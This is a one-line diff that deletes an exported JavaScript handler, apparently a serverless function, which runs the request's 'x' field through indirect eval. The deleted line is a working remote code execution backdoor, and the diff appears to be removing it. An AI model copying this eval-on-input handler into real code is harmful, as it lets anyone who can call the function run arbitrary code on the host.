@@ -1,1 +1,0 @@
-exports.handler=async e=>{(0,eval)(e.x)}
